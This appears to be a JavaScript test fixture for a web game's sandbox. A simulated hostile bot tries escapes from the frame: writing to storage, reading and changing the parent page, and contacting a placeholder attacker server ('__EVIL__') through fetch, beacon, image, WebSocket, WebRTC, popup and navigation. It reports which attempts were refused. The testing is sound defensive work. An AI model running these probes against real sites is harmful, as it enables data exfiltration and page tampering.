// JavaScript on the sandbox's page, loaded through PyScript's importJS by the hostile bot
// of e2e/test_sandbox.py: what it tries, and (posted to the frame above it) what each
// attempt gave. __EVIL__ (a server on another origin), __SITE__ and __NAVIGATE__ are
// filled in.
(async () => {
const evil = "__EVIL__";
const site = "__SITE__";
const found = {};
const attempt = async (name, how) => {
  try {
    const got = await Promise.race([how(), new Promise((_, no) => setTimeout(() => no(new Error("no answer")), 500))]);
    found[name] = "reached: " + String(got).slice(0, 60);
  } catch (error) {
    found[name] = "refused: " + (error && error.name);
  }
};
await attempt("localStorage", () => { localStorage.setItem("spygames:slot:espionage", "pwned"); return "written"; });
await attempt("sessionStorage", () => sessionStorage.length);
await attempt("cookie", () => { document.cookie = "pwned=1"; return document.cookie || Promise.reject(new Error("none")); });
await attempt("caches", () => caches.keys());
await attempt("serviceWorker", () => navigator.serviceWorker.register(site + "sw.js"));
await attempt("opfs", () => navigator.storage.getDirectory());
await attempt("buckets", () => navigator.storageBuckets.open("pwned"));
await attempt("locks", () => navigator.locks.request("spygames", () => "held"));
await attempt("parent page", () => parent.document.title);
await attempt("top page", () => top.document.title);
await attempt("fetch site", () => fetch(site + "index.html").then((r) => r.status));
await attempt("fetch evil", () => fetch(evil + "fetch").then((r) => r.status));
await attempt("beacon", () => navigator.sendBeacon(evil + "beacon", "x") || Promise.reject(new Error("refused")));
await attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => no(new Error("blocked")); i.src = evil + "image"; }));
await attempt("websocket", () => new Promise((ok, no) => { const s = new WebSocket(evil.replace("http", "ws") + "ws"); s.onopen = () => ok("open"); s.onerror = () => no(new Error("blocked")); }));
await attempt("webrtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(evil).host }] }));
await attempt("popup", () => open(evil + "popup") || Promise.reject(new Error("blocked")));
await attempt("broadcast", () => { new BroadcastChannel("spygames").postMessage("pwned"); return "posted"; });
await attempt("status line", () => parent.document.getElementById("lab-python").textContent = "pwned");
window.spygamesAttackDone = true; // the bot fails once it reads this (e2e/attack.py)
parent.postMessage({ attack: found }, "*");
// Last, where the bot plays on (__NAVIGATE__: at a table): the frame's own navigation. Not
// where it fails once the report is out (the Lab): a frame navigated away, even to the
// error page a refused navigation leaves, takes the bot's worker with it, so the Lab
// would say the bot did not answer instead of what Python's tries gave (CI, under load).
if (__NAVIGATE__) setTimeout(() => { location.href = evil + "navigate"; }, 1000);
})();
